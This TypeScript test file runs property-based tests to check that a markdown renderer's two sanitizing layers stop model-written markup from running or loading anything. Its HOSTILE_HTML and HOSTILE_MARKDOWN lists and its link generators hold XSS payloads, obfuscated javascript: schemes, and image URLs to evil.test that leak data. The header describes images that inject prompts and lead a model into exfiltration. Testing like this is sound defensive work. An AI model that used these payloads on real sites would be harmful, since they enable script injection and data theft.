/**
 * Answers are model output, and a picture can carry text that talks the model into writing HTML,
 * scripts, or an image whose address sends data to someone's server. renderMarkdown has two
 * layers: marked, with raw HTML escaped and images replaced by their description, then DOMPurify
 * with an allow-list and a hook for links.
 *
 * DOMPurify needs a real browser DOM, and unit tests have none that it supports: in node it has no
 * addHook at all, and with happy-dom (which other unit tests use) `<p><a href="javascript:x">y</a></p>`
 * comes out untouched; its authors say happy-dom gives bypasses (cure53/DOMPurify#1457). So here
 * DOMPurify is replaced by a stand-in that passes the HTML through and keeps what renderMarkdown
 * hands it: its configuration and its hook. That checks the two layers apart:
 * - the first on its own: nothing the model writes becomes an element or an attribute, even if
 *   the sanitizer let everything through;
 * - the second as configured: what it would let a link point to (its URI rule, as DOMPurify
 *   applies it, then our hook on a stand-in element), and that it keeps what the renderer writes.
 * DOMPurify enforcing its own configuration in a browser is covered by test/e2e/conversation.e2e.ts.
 */
import type { Config } from 'dompurify';
import fc from 'fast-check';
import { describe, expect, it, vi } from 'vitest';
import { renderMarkdown } from '../../utils/render/markdown';

type Hook = (node: Element) => void;
const sanitizer = vi.hoisted(() => {
  const seen: { hooks: { entryPoint: string; hook: Hook }[]; config?: Config } = { hooks: [] };
  const standIn = {
    addHook: (entryPoint: string, hook: Hook) => void seen.hooks.push({ entryPoint, hook }),
    sanitize: (html: string, config: Config) => {
      seen.config = config;
      return html;
    },
  };
  return { seen, standIn };
});
vi.mock('dompurify', () => ({ default: sanitizer.standIn }));

const RUNS = 200;

/** The elements and attributes marked's renderer writes; anything else came from the model. */
const RENDERER_TAGS = new Set([
  'p', 'br', 'strong', 'em', 'del', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'a', 'span',
  'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'hr', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'input',
]);
const RENDERER_ATTRS = new Set(['href', 'title', 'class', 'type', 'checked', 'disabled', 'align', 'start']);

interface Tag { name: string; attrs: Map<string, string> }
const TAG = /^<\/?([a-z][a-z0-9]*)((?:\s+[a-z-]+(?:="[^"<>]*")?)*)\s*\/?>/;
const ATTR = /([a-z-]+)(?:="([^"]*)")?/g;

/**
 * Reads the output as markup: every "<" must open one of the renderer's own well-formed tags; a
 * "<" that does not is markup the model slipped through, and is reported with what follows it.
 */
function tagsOf(html: string): Tag[] {
  const tags: Tag[] = [];
  for (let at = html.indexOf('<'); at !== -1; at = html.indexOf('<', at + 1)) {
    const match = TAG.exec(html.slice(at));
    if (!match) throw new Error(`raw "<" in the output: ${JSON.stringify(html.slice(at, at + 60))}`);
    const attrs = new Map<string, string>();
    for (const [, name, value] of match[2]!.matchAll(ATTR)) attrs.set(name!, value ?? '');
    tags.push({ name: match[1]!, attrs });
  }
  return tags;
}

/** Text as the browser reads it from the output: the entities marked writes, decoded. */
const decode = (html: string) =>
  html.replace(/&(lt|gt|quot|#39|amp);/g, (_, name: string) => ({ lt: '<', gt: '>', quot: '"', '#39': "'", amp: '&' })[name]!);

/** What the user sees of the output: tags dropped as a browser would consume them, entities decoded. */
const visibleText = (html: string) => decode(html.replace(/<[a-zA-Z/!?][^>]*>?/g, ' '));

/** Everything in the output is the renderer's own: its elements, its attributes, disabled checkboxes. */
function expectOnlyRendererMarkup(html: string): void {
  for (const { name, attrs } of tagsOf(html)) {
    expect(RENDERER_TAGS, `<${name}> in ${html}`).toContain(name);
    for (const attr of attrs.keys()) expect(RENDERER_ATTRS, `${attr}= on <${name}> in ${html}`).toContain(attr);
    if (name === 'input') expect([attrs.get('type'), attrs.has('disabled')]).toEqual(['checkbox', true]);
  }
}

/** An element as our hook sees it, for the second layer's checks. */
class StandInElement {
  readonly attributes: Map<string, string>;
  removed = false;
  constructor(readonly tagName: string, attributes: ReadonlyMap<string, string>) {
    this.attributes = new Map(attributes);
  }
  getAttribute(name: string) { return this.attributes.get(name) ?? null; }
  setAttribute(name: string, value: string) { this.attributes.set(name, value); }
  removeAttribute(name: string) { this.attributes.delete(name); }
  remove() { this.removed = true; }
}

/** Runs the hooks renderMarkdown registered on one element of its output, as DOMPurify would after its own checks. */
function afterHooks(tag: Tag): StandInElement {
  const element = new StandInElement(tag.name.toUpperCase(), new Map([...tag.attrs].map(([name, value]) => [name, decode(value)])));
  for (const { entryPoint, hook } of sanitizer.seen.hooks) {
    expect(entryPoint).toBe('afterSanitizeAttributes');
    hook(element as unknown as Element);
  }
  return element;
}

/** DOMPurify's rule for a URI attribute: trimmed, its whitespace removed, it must match ALLOWED_URI_REGEXP. */
const DOMPURIFY_WHITESPACE = /[\u0000-\u0020\u00A0\u1680\u180E\u2000-\u2029\u205F\u3000]/g;
function keptBySanitizer(value: string): boolean {
  const rule = sanitizer.seen.config?.ALLOWED_URI_REGEXP;
  if (!rule) throw new Error('renderMarkdown gave DOMPurify no URI rule: it would allow its defaults (tel:, sms:, ftp:, …)');
  const trimmed = value.trim();
  return trimmed === '' || new RegExp(rule.source, rule.flags.replace('g', '')).test(trimmed.replace(DOMPURIFY_WHITESPACE, ''));
}

/** Raw HTML a model can be talked into, each piece complete on its own. */
const HOSTILE_HTML = [
  '<script>alert(1)</script>', '<script src="https://evil.test/x.js"></script>',
  '<img src=x onerror=alert(1)>', '<img src="https://evil.test/p.png?d=secret">',
  '<iframe src="https://evil.test/"></iframe>', '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<style>body{background:url(https://evil.test/x)}</style>', '<link rel="stylesheet" href="https://evil.test/s.css">',
  '<svg onload=alert(1)><circle r=1 /></svg>', '<svg><image href="https://evil.test/p.png"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)" onclick="alert(1)">click</a>', '<div style="background-image:url(https://evil.test/x)">x</div>',
  '<object data="https://evil.test/x.swf"></object>', '<embed src="https://evil.test/x">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">', '<base href="https://evil.test/">',
  '<form action="https://evil.test/"><button formaction="https://evil.test/">go</button></form>',
  '<video poster="https://evil.test/p.png"><source src="https://evil.test/v.mp4"></video>', '<audio src="https://evil.test/a.mp3" autoplay>',
  '<body onload=alert(1)>', '<input type="image" src="https://evil.test/p.png">', '<input autofocus onfocus=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<!-- <img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>', '<template><img src=x onerror=alert(1)></template>', '<details open ontoggle=alert(1)>',
  // Tags after which marked stops escaping text (it expects them to become HTML), and tags left open.
  '<kbd>', '<code>', '<pre>', '<script>', '</kbd>', '<img src=x onerror=alert(1)//', '<b onclick=alert(1)', 'a<b then', '1 < 2 > 0',
  '<code>if a<b then</code>', '<kbd>Ctrl</kbd>+<b', '<pre>x <img src=x onerror=alert(1)//',
];
/** Markdown that would load or run something if rendered naively. */
const HOSTILE_MARKDOWN = [
  '![a chart](https://evil.test/leak.png?data=secret)', '![alt][ref]\n\n[ref]: https://evil.test/x.png', '![](https://evil.test/p.png "title")',
  '[![badge](https://evil.test/b.svg)](https://example.com)',
  '[click](javascript:alert(1))', '[click](JaVaScRiPt:alert(1))', '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](vbscript:msgbox(1))', '[click](<javascript:alert(1)>)', '<javascript:alert(1)>', '[x](&#106;avascript:alert(1))',
  '[a][b]\n\n[b]: javascript:alert(1)', 'www.evil.test', 'https://evil.test/p.png', '<https://evil.test/a>', '<a@evil.test>',
  // Code blocks stand on lines of their own (words after an opening fence would be its info string, never shown).
  '\n\n```html\n<script>alert(1)</script>\n```\n\n', '\n\n```js" onclick="alert(1)\nx\n```\n\n', '`<img src=x onerror=alert(1)>`', '\n\n    <script>alert(1)</script>\n\n',
  '**<b>bold</b>**', '_<i>x</i>_', '~~<s>y</s>~~', '\\<script>alert(1)\\</script>',
  // Blocks that count only at the start of a line, on lines of their own.
  ...['- [ ] task', '- [x] done', '| a | b |\n|:--|--:|\n| <img src=x> | [x](javascript:1) |', '> <script>alert(1)</script>', '# <img src=x onerror=alert(1)>', '3. third\n4. fourth']
    .map((block) => `\n\n${block}\n\n`),
];
const hostile = fc.constantFrom(...HOSTILE_HTML, ...HOSTILE_MARKDOWN);
const separator = fc.constantFrom(' ', '\n', '\n\n');
/** Plain words, distinct, so each can be looked for in what the user sees. */
const words = fc.uniqueArray(fc.stringMatching(/^[a-z]{4,10}$/), { minLength: 1, maxLength: 8 });

/** A document of plain words and hostile pieces, each piece separated from the next by a space or line break. */
const document = fc
  .tuple(words, fc.array(hostile, { minLength: 1, maxLength: 8 }))
  .chain(([plain, pieces]) =>
    fc.shuffledSubarray([...plain, ...pieces], { minLength: plain.length + pieces.length }).chain((order) =>
      fc.array(separator, { minLength: order.length, maxLength: order.length }).map((gaps) => ({
        plain,
        markdown: order.map((piece, i) => piece + gaps[i]).join(''),
      })),
    ),
  );

/** Markdown-ish noise: the characters and fragments markdown and HTML give meaning to. */
const noise = fc.string({
  unit: fc.oneof(
    fc.constantFrom('<', '>', '/', '=', '"', "'", '&', ';', '#', '*', '_', '~', '`', '[', ']', '(', ')', '!', '|', '-', ':', '\\', ' ', '\n', '\t'),
    fc.constantFrom('<b>', '</b>', '<img src=x onerror=alert(1)>', '<a href="javascript:alert(1)">', '</a>', '<script>', '</script>', '<kbd>', '<code>', '<!--', '-->', '<![CDATA[', ']]>', '<x', '</', '1. ', '3. '),
    fc.constantFrom('script', 'img', 'a', 'b', 'kbd', 'pre', 'code', 'iframe', 'style', 'svg', 'src', 'href', 'onerror', 'javascript', 'https', 'www.', '&lt;', '&#60;', 'x'),
    fc.string({ unit: 'grapheme', maxLength: 3 }),
  ),
  maxLength: 80,
});

describe('renderMarkdown: nothing the model writes becomes markup', () => {
  it('for any string, every tag and attribute in the output is one the renderer writes itself', () => {
    fc.assert(
      fc.property(fc.oneof(noise, fc.string({ unit: 'binary', maxLength: 60 })), (markdown) => {
        expectOnlyRendererMarkup(renderMarkdown(markdown));
      }),
      { numRuns: RUNS },
    );
  });

  it('hostile HTML and markdown never yield a script, a frame, a style, an image, an event handler or a remote source', () => {
    const executableOrLoading = /^(script|iframe|frame|object|embed|img|image|svg|math|style|link|meta|base|form|video|audio|source|template|noscript|body|details)$/;
    fc.assert(
      fc.property(document, ({ markdown }) => {
        const html = renderMarkdown(markdown);
        for (const { name, attrs } of tagsOf(html)) {
          expect(name, html).not.toMatch(executableOrLoading);
          for (const attr of attrs.keys()) expect(attr, html).not.toMatch(/^(on.*|style|src|srcset|srcdoc|data|action|formaction|poster|background)$/);
        }
        expectOnlyRendererMarkup(html);
      }),
      { numRuns: RUNS },
    );
  });

  it('every plain word of the answer is still there for the user to read', () => {
    fc.assert(
      fc.property(document, ({ plain, markdown }) => {
        const text = visibleText(renderMarkdown(markdown));
        for (const word of plain) expect(text, markdown).toMatch(new RegExp(`(?<![a-z])${word}(?![a-z])`));
      }),
      { numRuns: RUNS },
    );
  });

  it('raw HTML is shown as the text it is, on a line of its own or inside a sentence', () => {
    const tagName = fc.constantFrom('script', 'img', 'iframe', 'a', 'div', 'svg', 'style', 'object', 'b', 'kbd', 'pre', 'code');
    const attribute = fc
      .tuple(fc.constantFrom('src', 'href', 'onerror', 'onclick', 'onload', 'style', 'srcdoc', 'formaction'), fc.constantFrom('javascript:alert(1)', 'https://evil.test/x.png', 'alert(1)', 'x', 'background:url(https://evil.test/x)'))
      .map(([name, value]) => ` ${name}="${value}"`);
    const element = fc
      .tuple(tagName, fc.array(attribute, { maxLength: 3 }), fc.option(fc.stringMatching(/^[a-z]{1,8}$/), { nil: undefined }))
      .map(([name, attrs, inner]) => `<${name}${attrs.join('')}>${inner === undefined ? '' : `${inner}</${name}>`}`);
    fc.assert(
      fc.property(element, words, fc.boolean(), (html, [before], ownLine) => {
        const markdown = ownLine ? `${before}\n\n${html}\n\n${before}` : `${before} ${html} ${before}`;
        expect(visibleText(renderMarkdown(markdown))).toContain(html);
      }),
      { numRuns: RUNS },
    );
  });

  it('a markdown image is never loaded: the reader sees its description in brackets instead', () => {
    const url = fc.constantFrom('https://evil.test/leak.png?data=secret', 'http://192.168.1.1/p.png', '//evil.test/p.png', 'data:image/png;base64,iVBORw0KGgo=', '/relative.png');
    const alt = fc.option(words.map((ws) => ws.join(' ')), { nil: '' });
    const title = fc.constantFrom('', ' "a title"');
    fc.assert(
      fc.property(alt, url, title, words, (description, address, t, [before]) => {
        const html = renderMarkdown(`${before} ![${description}](${address}${t}) ${before}`);
        expect(html).not.toContain(address);
        expect(visibleText(html)).toContain(`[${description || 'image'}]`);
        expectOnlyRendererMarkup(html);
      }),
      { numRuns: RUNS },
    );
  });
});

describe('renderMarkdown: links and what the sanitizer is told', () => {
  /** A link target as a model might spell one: any scheme, any case, with the tricks browsers forgive. */
  const scheme = fc.constantFrom('javascript', 'data', 'vbscript', 'file', 'blob', 'chrome-extension', 'http', 'https', 'mailto');
  const spelledScheme = fc
    .tuple(fc.mixedCase(scheme), fc.constantFrom('plain', 'tab inside', 'newline inside', 'entity first', 'hex entity first', 'leading space'), fc.nat(8))
    .map(([name, trick, at]) => {
      const cut = at % name.length;
      switch (trick) {
        case 'tab inside': return `${name.slice(0, cut)}\t${name.slice(cut)}`;
        case 'newline inside': return `${name.slice(0, cut)}\n${name.slice(cut)}`;
        case 'entity first': return `&#${name.charCodeAt(0)};${name.slice(1)}`;
        case 'hex entity first': return `&#x${name.charCodeAt(0).toString(16)};${name.slice(1)}`;
        case 'leading space': return ` ${name}`;
        default: return name;
      }
    });
  const rest = fc.constantFrom(':alert(1)', ':alert("https://x")', '://evil.test/x', ':text/html;base64,PHNjcmlwdD4=', ':msgbox(1)', ':someone@example.com');
  const target = fc.tuple(spelledScheme, rest).map(([a, b]) => a + b);
  const link = fc
    .tuple(target, fc.constantFrom('inline', 'angle', 'reference', 'autolink', 'bare'))
    .map(([to, syntax]) => {
      switch (syntax) {
        case 'inline': return `[open](${to})`;
        case 'angle': return `[open](<${to}>)`;
        case 'reference': return `[open][r]\n\n[r]: <${to}>`;
        case 'autolink': return `<${to}>`;
        default: return to;
      }
    });
  const answer = fc.tuple(fc.array(fc.oneof(link, hostile), { minLength: 1, maxLength: 4 }), separator).map(([parts, gap]) => parts.join(gap));

  it('a link the sanitizer keeps opens an http, https or mailto address, however the model spells it', () => {
    fc.assert(
      fc.property(answer, (markdown) => {
        for (const tag of tagsOf(renderMarkdown(markdown))) {
          if (tag.name !== 'a' || !tag.attrs.has('href')) continue;
          const href = decode(tag.attrs.get('href')!);
          if (!keptBySanitizer(href)) continue;
          const kept = afterHooks(tag).getAttribute('href');
          // The browser reads the address with the same URL parser as this: its scheme is what opens
          // (an address it cannot parse opens nothing).
          if (kept === null || !URL.canParse(kept, 'https://answer.invalid/')) continue;
          expect(new URL(kept, 'https://answer.invalid/').protocol, `${kept} from ${JSON.stringify(markdown)}`).toMatch(/^(https?|mailto):$/);
        }
      }),
      { numRuns: RUNS },
    );
  });

  it('every link opens in a new tab that cannot reach back into the popup', () => {
    fc.assert(
      fc.property(answer, (markdown) => {
        for (const tag of tagsOf(renderMarkdown(markdown))) {
          if (tag.name !== 'a') continue;
          const element = afterHooks(tag);
          expect(element.getAttribute('target')).toBe('_blank');
          expect(element.getAttribute('rel')).toBe('noopener noreferrer');
        }
      }),
      { numRuns: RUNS },
    );
  });

  it('the sanitizer keeps every element and attribute the renderer writes, so nothing of the answer is silently dropped', () => {
    // Its allow-lists must cover the renderer: an attribute missing there is removed in the browser
    // (an ordered list's start="3" dropped renumbers a model's steps 3, 4 as 1, 2).
    fc.assert(
      fc.property(fc.oneof(document.map(({ markdown }) => markdown), noise), (markdown) => {
        const html = renderMarkdown(markdown);
        const { ALLOWED_TAGS, ALLOWED_ATTR } = sanitizer.seen.config ?? {};
        for (const { name, attrs } of tagsOf(html)) {
          expect(ALLOWED_TAGS, `<${name}> in ${html}`).toContain(name);
          for (const attr of attrs.keys()) expect(ALLOWED_ATTR, `${attr}= on <${name}> in ${html}`).toContain(attr);
        }
      }),
      { numRuns: RUNS },
    );
  });
});
